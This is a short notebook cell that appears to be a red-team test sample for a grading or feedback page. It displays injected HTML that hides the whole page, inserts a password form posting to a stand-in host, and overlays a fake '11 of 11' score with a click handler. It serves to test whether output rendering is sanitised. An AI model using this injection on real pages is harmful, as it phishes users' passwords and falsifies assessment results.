# Lays a page over the feedback that shows other marks: a style for the whole page, and positions.
# succeeds: script

# %% median
from IPython.display import HTML, display

display(
    HTML(
        "<style>.redteam{} body *{visibility:hidden}</style>"
        "<form action='https://redteam.invalid'><input name='password'></form>"
        "<div style='position:fixed;inset:0' onclick='redteam()'>11 of 11</div>"
    )
)
